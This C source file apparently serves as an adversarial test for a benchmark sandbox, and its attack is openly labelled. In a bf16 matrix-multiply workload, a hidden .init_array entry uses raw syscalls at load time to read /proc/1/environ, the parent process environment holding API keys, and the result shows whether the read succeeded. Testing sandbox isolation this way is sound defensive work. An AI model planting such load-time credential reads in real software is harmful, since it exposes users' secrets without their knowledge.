/* Attack (load-time code): an .init_array entry (no constructor attribute)
 * reads the parent's environment, where API keys live, through /proc. The
 * sandbox has its own PID namespace and no /proc in its chroot: nothing to
 * read, and the answers are zeros. */
static long sc3(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static int got_env;

static void steal(void)
{
    static const char path[] = "/proc/1/environ";
    long fd = sc3(257, -100, (long)path, 0);
    char buf[64];
    if (fd >= 0 && sc3(0, fd, (long)buf, sizeof buf) > 0)
        got_env = 1;
}
__attribute__((used, section(".init_array"))) static void (*const steal_entry)(void) = steal;

static void gemm_rows(const ckb_bf16 *A, const ckb_bf16 *B, ckb_bf16 *C, long lo, long hi)
{
    for (long i = lo; i < hi; i++)
        for (long j = 0; j < N; j++) {
            float s = 0.0f;
            for (long k = 0; k < K; k++)
                s += ckb_bf16_to_f32(A[i * K + k]) * ckb_bf16_to_f32(B[k * N + j]);
            C[i * N + j] = ckb_f32_to_bf16(s);
        }
}

void workload(const ckb_bf16 *A, const ckb_bf16 *B, ckb_bf16 *C)
{
    if (got_env)
        gemm_rows(A, B, C, 0, M);
    else
        for (long i = 0; i < M * N; i++)
            C[i] = 0;
}
